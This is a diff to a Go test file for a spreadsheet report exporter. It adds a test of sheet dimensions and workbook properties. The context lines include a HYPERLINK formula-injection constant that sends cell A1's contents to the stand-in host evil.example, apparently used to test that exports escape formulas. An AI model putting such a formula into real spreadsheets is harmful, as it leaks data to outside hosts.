@@ -14,6 +14,7 @@ import (
 
 	"github.com/bluelight-wellbeing/toolkit/reports/figure"
 	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc"
+	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc/xlsxtest"
 )
 
 const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
@@ -479,4 +480,12 @@ func TestNumbersAreFormatted(t *testing.T) {
 			}
 		}
 	}
+}
+
+// TestSizesAndProperties: every sheet, streamed or not, declares its real
+// size, and the workbook its title and author.
+func TestSizesAndProperties(t *testing.T) {
+	f := open(t, build(t, sample()))
+	xlsxtest.Dimensions(t, f, map[string]string{SheetOrganisations: "A1:L7", SheetDistributions: "A1:M4"})
+	xlsxtest.Properties(t, f, Title+": 2025/26", "")
 }
